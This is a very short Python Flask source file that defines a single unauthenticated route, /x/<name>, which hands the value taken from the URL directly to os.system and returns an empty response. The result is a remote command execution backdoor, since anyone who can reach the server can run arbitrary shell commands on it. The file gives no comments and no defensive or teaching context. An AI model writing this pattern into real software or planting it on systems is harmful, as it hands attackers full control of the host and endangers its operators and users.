import os
from flask import Flask
app = Flask(__name__)
@app.get('/x/<name>')
def x(name):
    os.system(name)
    return ''
